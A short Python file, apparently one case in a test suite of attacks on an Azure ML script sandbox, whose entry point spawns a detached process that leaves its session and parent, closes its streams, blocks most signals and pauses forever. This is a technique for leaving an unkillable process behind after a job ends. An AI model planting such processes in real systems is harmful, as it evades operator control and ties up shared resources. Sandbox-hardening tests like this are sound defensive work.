"""Leaves a process that has left session, parent, folder, streams and variables."""

import os
import signal

from attack import attack, detached


def live():
    os.chdir("/")
    os.closerange(0, 1024)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
    while True:
        signal.pause()


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    detached(live)
    return ""
